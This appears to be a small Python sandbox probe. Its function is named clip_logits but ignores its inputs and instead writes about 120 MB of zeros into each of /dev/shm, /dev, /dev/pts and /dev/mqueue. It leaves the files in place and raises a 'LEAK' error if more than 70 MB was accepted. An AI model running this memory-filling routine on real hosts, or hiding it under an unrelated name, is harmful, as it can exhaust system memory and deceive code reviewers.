"""Fills what is in memory below /dev."""


def clip_logits(backbone, video):
    taken = 0
    for folder in ("/dev/shm", "/dev", "/dev/pts", "/dev/mqueue"):
        try:
            for number in range(4):
                with open(f"{folder}/flood{number}", "wb") as file:
                    for _ in range(30):
                        taken += file.write(bytes(1 << 20))
        except OSError:
            pass
    if taken > 70_000_000:
        raise RuntimeError(f"LEAK {taken} bytes were taken below /dev")
    return None
